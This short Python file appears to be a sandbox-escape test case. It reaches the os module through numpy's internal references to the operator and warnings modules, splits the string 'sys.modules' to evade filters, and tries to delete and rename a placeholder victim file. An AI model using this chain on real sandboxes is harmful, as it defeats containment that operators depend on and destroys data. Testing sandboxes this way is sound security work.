"""Escape: operator (held by numpy.random.mtrand) and attrgetter with the name in a string reach
`sys` through the `warnings` module numpy.matrixlib holds; sys.modules has os."""
import numpy as np


def reach(ctx):
    getter = np.random.mtrand.operator.attrgetter("sy" + "s.modules")
    return getter(np.matrixlib.defmatrix.warnings)["os"]


def attempt(name, call, out):
    try:
        call()
        out.append(name + ":DONE")
    except Exception as e:
        out.append(name + ":" + str(e.errno))


def attention(ctx):
    os = reach(ctx)
    out = []
    attempt("unlink", lambda: os.unlink("@TARGET@/victim"), out)
    attempt("rename", lambda: os.rename("@TARGET@/victim", "@TARGET@/moved"), out)
    raise RuntimeError("attempts: " + " ".join(out))
